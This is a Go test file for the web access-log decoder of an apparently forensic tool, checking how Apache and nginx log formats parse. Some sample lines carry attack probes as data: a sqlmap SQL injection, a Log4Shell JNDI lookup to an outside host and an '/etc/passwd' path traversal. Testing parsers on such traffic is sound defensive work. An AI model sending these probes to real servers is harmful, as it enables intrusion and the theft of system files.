package access

import (
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/kizuki-dfir/kizuki/event"
	"github.com/kizuki-dfir/kizuki/format"
	"github.com/kizuki-dfir/kizuki/format/formattest"
	"github.com/kizuki-dfir/kizuki/internal/shareddata"
)

var update = flag.Bool("update", false, "rewrite golden files in testdata")

// Sources of the sample lines:
//   - [apache-real]: /work/shared/data/apache-real/access.log (elastic/examples apache_logs, Apache-2.0)
//   - [nginx-local]: testdata/nginx-combined.log and nginx-custom.log, written by nginx 1.22.1 (see testdata/SOURCE.md)
//   - [apache-doc]: the example lines of https://httpd.apache.org/docs/2.4/logs.html
const customNginx = `$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" $request_time "$http_x_forwarded_for" $upstream_cache_status $cookie_session $host $time_iso8601 $msec`

func kv(k, v string) event.KV { return event.KV{Key: k, Value: v} }

func utc(s string) time.Time {
	t, err := time.Parse(time.RFC3339Nano, s)
	if err != nil {
		panic(err)
	}
	return t.UTC()
}

func TestDecode(t *testing.T) {
	web := func(e event.Event) event.Event {
		e.Kind = event.KindWeb
		e.Action = "http_request"
		if e.Dataset == "" {
			e.Dataset = "web.access"
		}
		return e
	}
	tests := []struct {
		name   string
		format string // registered name, or an AccessFormat for access.custom
		line   string
		want   event.Event // Raw and Ref are filled in by the test
	}{
		{
			name:   "apache-real combined",
			format: "access.combined",
			line:   `83.149.9.216 - - [17/May/2015:10:05:03 +0000] "GET /presentations/logstash-monitorama-2013/images/kibana-search.png HTTP/1.1" 200 203023 "http://semicomplete.com/presentations/logstash-monitorama-2013/" "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/32.0.1700.77 Safari/537.36"`,
			want: web(event.Event{
				Time: utc("2015-05-17T10:05:03Z"), SourceIP: "83.149.9.216", Method: "GET",
				URL: "/presentations/logstash-monitorama-2013/images/kibana-search.png", HTTPVersion: "HTTP/1.1",
				Status: 200, Bytes: 203023, Referrer: "http://semicomplete.com/presentations/logstash-monitorama-2013/",
				UserAgent: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/32.0.1700.77 Safari/537.36",
			}),
		},
		{
			// [apache-real] line 4993: the user agent is cut short, no closing quote
			name:   "apache-real truncated user agent",
			format: "access.combined",
			line:   `46.118.127.106 - - [20/May/2015:12:05:17 +0000] "GET /scripts/grok-py-test/configlib.py HTTP/1.1" 200 235 "-" "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html`,
			want: web(event.Event{
				Time: utc("2015-05-20T12:05:17Z"), SourceIP: "46.118.127.106", Method: "GET",
				URL: "/scripts/grok-py-test/configlib.py", HTTPVersion: "HTTP/1.1", Status: 200, Bytes: 235,
				UserAgent: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html",
			}),
		},
		{
			name:   "apache-doc common line from a CRLF file",
			format: "access.common",
			line:   "127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326\r",
			want: web(event.Event{
				Time: utc("2000-10-10T20:55:36Z"), SourceIP: "127.0.0.1", User: "frank", Method: "GET",
				URL: "/apache_pb.gif", HTTPVersion: "HTTP/1.0", Status: 200, Bytes: 2326,
			}),
		},
		{
			name:   "apache-doc common with user and zone",
			format: "access.common",
			line:   `127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326`,
			want: web(event.Event{
				Time: utc("2000-10-10T20:55:36Z"), SourceIP: "127.0.0.1", User: "frank", Method: "GET",
				URL: "/apache_pb.gif", HTTPVersion: "HTTP/1.0", Status: 200, Bytes: 2326,
			}),
		},
		{
			name:   "nginx-local sqlmap user agent with escaped quotes and backslash",
			format: "access.combined",
			line:   `127.0.0.1 - - [22/Nov/2026:22:25:50 +0000] "GET /index.php?id=1'%20UNION%20SELECT%201,2-- HTTP/1.1" 502 157 "-" "sqlmap/1.7 \x22quoted\x22 \x5Cback"`,
			want: web(event.Event{
				Time: utc("2026-11-22T22:25:50Z"), SourceIP: "127.0.0.1", Method: "GET",
				URL: "/index.php?id=1'%20UNION%20SELECT%201,2--", HTTPVersion: "HTTP/1.1", Status: 502, Bytes: 157,
				UserAgent: `sqlmap/1.7 \x22quoted\x22 \x5Cback`,
			}),
		},
		{
			name:   "nginx-local TLS ClientHello sent to the HTTP port",
			format: "access.combined",
			line:   `127.0.0.1 - - [22/Nov/2026:22:25:51 +0000] "\x16\x03\x01\x00\xA5\x01\x00\x00\xA1\x03\x03" 400 157 "-" "-"`,
			want: web(event.Event{
				Time: utc("2026-11-22T22:25:51Z"), SourceIP: "127.0.0.1", Status: 400, Bytes: 157,
				Extra: []event.KV{kv("http.request.line", `\x16\x03\x01\x00\xA5\x01\x00\x00\xA1\x03\x03`)},
			}),
		},
		{
			name:   "nginx-local IPv6 client",
			format: "access.combined",
			line:   `::1 - - [22/Nov/2026:22:25:50 +0000] "POST /wp-login.php HTTP/1.1" 502 157 "-" "curl/7.88.1"`,
			want: web(event.Event{
				Time: utc("2026-11-22T22:25:50Z"), SourceIP: "::1", Method: "POST", URL: "/wp-login.php",
				HTTPVersion: "HTTP/1.1", Status: 502, Bytes: 157, UserAgent: "curl/7.88.1",
			}),
		},
		{
			name:   "nginx-local HTTP/0.9 request",
			format: "access.combined",
			line:   `127.0.0.1 - - [22/Nov/2026:22:25:51 +0000] "GET /" 200 3 "-" "-"`,
			want: web(event.Event{
				Time: utc("2026-11-22T22:25:51Z"), SourceIP: "127.0.0.1", Method: "GET", URL: "/", Status: 200, Bytes: 3,
			}),
		},
		{
			name:   "nginx-local Log4Shell probe",
			format: "access.combined",
			line:   `127.0.0.1 - - [22/Nov/2026:22:25:50 +0000] "GET /?x=$jndi:ldap://x HTTP/1.1" 200 3 "-" "${jndi:ldap://198.51.100.9/a}"`,
			want: web(event.Event{
				Time: utc("2026-11-22T22:25:50Z"), SourceIP: "127.0.0.1", Method: "GET", URL: "/?x=$jndi:ldap://x",
				HTTPVersion: "HTTP/1.1", Status: 200, Bytes: 3, UserAgent: "${jndi:ldap://198.51.100.9/a}",
			}),
		},
		{
			// Apache before 2.0.46 wrote request lines unescaped; a bare quote must not end the field.
			name:   "unescaped quote in request (old Apache)",
			format: "access.combined",
			line:   `10.0.0.5 - - [11/Mar/2003:08:01:02 +0100] "GET /cgi-bin/x.cgi?a="b HTTP/1.0" 404 210 "-" "Mozilla/4.0"`,
			want: web(event.Event{
				Time: utc("2003-03-11T07:01:02Z"), SourceIP: "10.0.0.5", Method: "GET", URL: `/cgi-bin/x.cgi?a="b`,
				HTTPVersion: "HTTP/1.0", Status: 404, Bytes: 210, UserAgent: "Mozilla/4.0",
			}),
		},
		{
			// nginx's default "main" format on RHEL-family packages appends "$http_x_forwarded_for"
			name:   "combined with a trailing field",
			format: "access.combined",
			line:   `127.0.0.1 - - [22/Nov/2026:22:25:50 +0000] "GET / HTTP/1.1" 200 3 "-" "curl/7.88.1" "203.0.113.7"`,
			want: web(event.Event{
				Time: utc("2026-11-22T22:25:50Z"), SourceIP: "127.0.0.1", Method: "GET", URL: "/",
				HTTPVersion: "HTTP/1.1", Status: 200, Bytes: 3, UserAgent: "curl/7.88.1",
				Extra: []event.KV{kv("log.trailing", ` "203.0.113.7"`)},
			}),
		},
		{
			name:   "apache-doc vhost_combined",
			format: "access.vhost_combined",
			line:   `www.example.com:443 192.0.2.10 - bob [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326 "http://www.example.com/start.html" "Mozilla/4.08 [en] (Win98; I ;Nav)"`,
			want: event.Event{
				Kind: event.KindWeb, Action: "http_request", Dataset: "apache.access",
				Time: utc("2000-10-10T20:55:36Z"), Host: "www.example.com", SourceIP: "192.0.2.10", User: "bob",
				Method: "GET", URL: "/apache_pb.gif", HTTPVersion: "HTTP/1.0", Status: 200, Bytes: 2326,
				Referrer: "http://www.example.com/start.html", UserAgent: "Mozilla/4.08 [en] (Win98; I ;Nav)",
				Extra: []event.KV{kv("destination.port", "443")},
			},
		},
		{
			name:   "nginx-local custom format",
			format: customNginx,
			line:   `127.0.0.1 - - [22/Nov/2026:22:25:50 +0000] "GET /index.html?q=1 HTTP/1.1" 200 3 "http://127.0.0.1:18080/" "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0" 0.000 "203.0.113.7, 198.51.100.2" - abc123 127.0.0.1 2026-11-22T22:25:50+00:00 1795386350.280`,
			want: event.Event{
				Kind: event.KindWeb, Action: "http_request", Dataset: "nginx.access",
				// $msec is the last time field in the format, so it wins
				Time: utc("2026-11-22T22:25:50.28Z"), SourceIP: "127.0.0.1", Host: "127.0.0.1",
				Method: "GET", URL: "/index.html?q=1", HTTPVersion: "HTTP/1.1", Status: 200, Bytes: 3,
				Referrer:  "http://127.0.0.1:18080/",
				UserAgent: "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
				Extra: []event.KV{
					kv("http.request.time", "0.000"),
					kv("http.request.x_forwarded_for", "203.0.113.7, 198.51.100.2"),
					kv("http.request.cookie.session", "abc123"),
				},
			},
		},
		{
			name:   "nginx-local custom format, request with an escaped quote",
			format: customNginx,
			line:   `127.0.0.1 - - [22/Nov/2026:22:25:51 +0000] "GET /\x22quote HTTP/1.0" 404 153 "-" "a\x22b" 0.000 "-" - - kizuki.test 2026-11-22T22:25:51+00:00 1795386351.354`,
			want: event.Event{
				Kind: event.KindWeb, Action: "http_request", Dataset: "nginx.access",
				Time: utc("2026-11-22T22:25:51.354Z"), SourceIP: "127.0.0.1", Host: "kizuki.test",
				Method: "GET", URL: `/\x22quote`, HTTPVersion: "HTTP/1.0", Status: 404, Bytes: 153, UserAgent: `a\x22b`,
				Extra: []event.KV{kv("http.request.time", "0.000")},
			},
		},
		{
			// the task's Apache example, written as in httpd.conf with \" escapes
			name:   "apache custom with microseconds, XFF list and note",
			format: `%h %l %u %t \"%r\" %>s %b \"%{Referer}i\" \"%{User-agent}i\" %D %{X-Forwarded-For}i %{cookie}n`,
			line:   `198.51.100.23 - - [19/May/2024:03:12:44 +0900] "GET /index.php?page=../../etc/passwd HTTP/1.1" 200 512 "-" "Mozilla/5.0" 1532 203.0.113.7, 10.0.0.1 198.51.100.23.1716055964123456`,
			want: event.Event{
				Kind: event.KindWeb, Action: "http_request", Dataset: "apache.access",
				Time: utc("2024-05-18T18:12:44Z"), SourceIP: "198.51.100.23", Method: "GET",
				URL: "/index.php?page=../../etc/passwd", HTTPVersion: "HTTP/1.1", Status: 200, Bytes: 512,
				UserAgent: "Mozilla/5.0",
				Extra: []event.KV{
					kv("http.request.time_us", "1532"),
					kv("http.request.x_forwarded_for", "203.0.113.7, 10.0.0.1"),
					kv("apache.note.cookie", "198.51.100.23.1716055964123456"),
				},
			},
		},
		{
			name:   "nginx $uri$is_args$args joins into one URL",
			format: `$remote_addr [$time_iso8601] $request_method $uri$is_args$args $status $upstream_addr $upstream_status rt=$request_time`,
			line:   `2001:db8::7 [2024-05-19T03:12:44+09:00] POST /xmlrpc.php?a=1&b=2 200 127.0.0.1:9000, 127.0.0.1:9001 502, 200 rt=0.120`,
			want: event.Event{
				Kind: event.KindWeb, Action: "http_request", Dataset: "nginx.access",
				Time: utc("2024-05-18T18:12:44Z"), SourceIP: "2001:db8::7", Method: "POST",
				URL: "/xmlrpc.php?a=1&b=2", Status: 200,
				Extra: []event.KV{
					kv("upstream.address", "127.0.0.1:9000, 127.0.0.1:9001"),
					kv("upstream.status", "502, 200"),
					kv("http.request.time", "0.120"),
				},
			},
		},
		{
			// nginx JSON logging, pasted as the whole directive; the request's
			// quotes are JSON-escaped (escape=json)
			name:   "nginx escape=json log_format directive",
			format: `log_format api escape=json '{"time":"$time_iso8601","remote_addr":"$remote_addr",' '"request":"$request","status":"$status","ua":"$http_user_agent"}';`,
			line:   `{"time":"2024-05-19T03:12:44.250+02:00","remote_addr":"203.0.113.9","request":"GET /?q=\"x\" HTTP/1.1","status":"200","ua":"curl/8.0"}`,
			want: event.Event{
				Kind: event.KindWeb, Action: "http_request", Dataset: "nginx.access",
				Time: utc("2024-05-19T01:12:44.25Z"), SourceIP: "203.0.113.9", Method: "GET",
				URL: `/?q=\"x\"`, HTTPVersion: "HTTP/1.1", Status: 200, UserAgent: "curl/8.0",
			},
		},
		{
			name:   "apache %U%q without a query",
			format: `%a %{%d/%b/%Y:%H:%M:%S %z}t %m %U%q %H %s %O %I`,
			line:   `192.0.2.1 01/Feb/2024:00:00:00 +0000 GET /login.php HTTP/1.1 302 0 411`,
			want: event.Event{
				Kind: event.KindWeb, Action: "http_request", Dataset: "apache.access",
				Time: utc("2024-02-01T00:00:00Z"), SourceIP: "192.0.2.1", Method: "GET",
				URL: "/login.php", HTTPVersion: "HTTP/1.1", Status: 302,
				Extra: []event.KV{kv("http.request.bytes", "411")},
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dec := newTestDecoder(t, tt.format)
			ref := event.Ref{Input: 1, Line: 7, Offset: 99}
			var got []event.Event
			dec.Decode(tt.line, ref, func(e *event.Event) { got = append(got, *e) })
			if len(got) != 1 {
				t.Fatalf("got %d events, want 1", len(got))
			}
			want := tt.want
			want.Raw, want.Ref = tt.line, ref
			if d := cmp.Diff(want, got[0], cmpopts.EquateEmpty()); d != "" {
				t.Errorf("event mismatch (-want +got):\n%s", d)
			}
		})
	}
}

func newTestDecoder(t testing.TB, name string) format.Decoder {
	t.Helper()
	opts := format.Options{}
	if !strings.HasPrefix(name, "access.") {
		opts.AccessFormat = name
		name = "access.custom"
	}
	f, err := format.Lookup(name)
	if err != nil {
		t.Fatal(err)
	}
	dec, err := f.New(opts)
	if err != nil {
		t.Fatal(err)
	}
	return dec
}

// TestNotAccessLog checks that lines of other formats come out raw, never
// half-decoded.
func TestNotAccessLog(t *testing.T) {
	lines := []string{
		"",
		"-",
		// loghub Apache error log, line 1
		"[Sun Dec 04 04:47:44 2005] [notice] workerEnv.init() ok /etc/httpd/conf/workers2.properties",
		// testdata/nginx-error of package weberror
		"2026/11/22 22:25:43 [notice] 18842#18842: nginx/1.22.1",
		// combined line with a bad status and a bad month
		`127.0.0.1 - - [22/Nov/2026:22:25:50 +0000] "GET / HTTP/1.1" 2OO 3 "-" "-"`,
		`127.0.0.1 - - [22/Foo/2026:22:25:50 +0000] "GET / HTTP/1.1" 200 3 "-" "-"`,
		`127.0.0.1 - - [22/Nov/2026:22:25:50 +0000] "GET / HTTP/1.1`,
		"\x00\xff\xfe binary",
	}
	for _, name := range []string{"access.combined", "access.common", "access.vhost_combined"} {
		dec := newTestDecoder(t, name)
		for _, l := range lines {
			dec.Decode(l, event.Ref{}, func(e *event.Event) {
				if e.Kind != event.KindRaw || e.Raw != l {
					t.Errorf("%s: %q decoded as %v, want raw", name, l, e.Kind)
				}
			})
		}
	}
}

func TestSniff(t *testing.T) {
	sample := formattest.ReadLines(t, "testdata/nginx-combined.log")
	f, score := format.Sniff(sample)
	if f == nil || f.Name != "access.combined" || score < 99 {
		t.Errorf("Sniff(nginx combined) = %v, %d; want access.combined, >= 99", f, score)
	}
	common := []string{
		`127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326`,
		`192.0.2.9 - - [10/Oct/2000:13:55:37 -0700] "GET /favicon.ico HTTP/1.0" 404 -`,
	}
	if f, _ := format.Sniff(common); f == nil || f.Name != "access.common" {
		t.Errorf("Sniff(common) = %v; want access.common", f)
	}
	if f, _ := format.Sniff(formattest.ReadLines(t, "testdata/apache-vhost_combined.log")); f == nil || f.Name != "access.vhost_combined" {
		t.Errorf("Sniff(apache-vhost_combined.log) = %v; want access.vhost_combined", f)
	}
	vhost := []string{`www.example.com:443 192.0.2.10 - bob [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 200 2326 "-" "-"`}
	if f, _ := format.Sniff(vhost); f == nil || f.Name != "access.vhost_combined" {
		t.Errorf("Sniff(vhost_combined) = %v; want access.vhost_combined", f)
	}
}

func TestCompileErrors(t *testing.T) {
	for _, f := range []string{
		"",
		"no fields at all",
		"%h %{Referer",
		"%h %Z",
		"$remote_addr$remote_user",
		"${remote_addr",
		"%",
	} {
		if err := Compile(f); err == nil {
			t.Errorf("Compile(%q) = nil, want an error", f)
		}
	}
	// pasted directives compile to the same steps as the bare strings
	for _, c := range []struct{ pasted, bare string }{
		{`log_format main '$remote_addr - $remote_user [$time_local] "$request" '
		                  '$status $body_bytes_sent';`, `$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent`},
		{`LogFormat "%h %l %u %t \"%r\" %>s %b" common`, `%h %l %u %t "%r" %>s %b`},
	} {
		a, err := compile(c.pasted)
		if err != nil {
			t.Fatalf("compile(%q): %v", c.pasted, err)
		}
		b, err := compile(c.bare)
		if err != nil {
			t.Fatal(err)
		}
		if d := cmp.Diff(b, a, cmp.AllowUnexported(layout{}, step{})); d != "" {
			t.Errorf("pasted %q differs from bare (-bare +pasted):\n%s", c.pasted, d)
		}
	}
}

// TestApacheReal decodes the 10,000 real lines of the shared data set.
func TestApacheReal(t *testing.T) {
	path := filepath.Join(shareddata.Path(t), "apache-real", "access.log")
	lines := formattest.ReadLines(t, path)
	dec := newTestDecoder(t, "access.combined")
	parsed := 0
	for i, l := range lines {
		dec.Decode(l, event.Ref{Line: int64(i + 1)}, func(e *event.Event) {
			if e.Kind == event.KindWeb && e.Status != 0 && !e.Time.IsZero() {
				parsed++
			} else {
				t.Logf("line %d not parsed: %q", i+1, l)
			}
		})
	}
	if pct := float64(parsed) * 100 / float64(len(lines)); pct < 99.5 {
		t.Errorf("parsed %d of %d lines (%.2f%%), want >= 99.5%%", parsed, len(lines), pct)
	}
}

// TestGolden decodes the testdata logs and compares with golden JSON.
func TestGolden(t *testing.T) {
	formatOf := func(name string) string {
		b, err := os.ReadFile(filepath.Join("testdata", name))
		if err != nil {
			t.Fatal(err)
		}
		return strings.TrimSpace(string(b))
	}
	for _, c := range []struct{ log, format string }{
		{"nginx-combined.log", "access.combined"},
		{"nginx-custom.log", formatOf("nginx-custom.format")},
		{"apache-vhost_combined.log", "access.vhost_combined"},
		{"apache-custom.log", formatOf("apache-custom.format")},
	} {
		t.Run(c.log, func(t *testing.T) {
			dec := newTestDecoder(t, c.format)
			var b strings.Builder
			for i, l := range formattest.ReadLines(t, filepath.Join("testdata", c.log)) {
				dec.Decode(l, event.Ref{Line: int64(i + 1)}, func(e *event.Event) {
					if e.Kind != event.KindWeb {
						t.Errorf("line %d not decoded: %q", i+1, l)
					}
					j, err := json.Marshal(e)
					if err != nil {
						t.Fatal(err)
					}
					b.Write(j)
					b.WriteByte('\n')
				})
			}
			golden := filepath.Join("testdata", strings.TrimSuffix(c.log, ".log")+".golden.jsonl")
			formattest.Golden(t, golden, []byte(b.String()), *update)
		})
	}
}
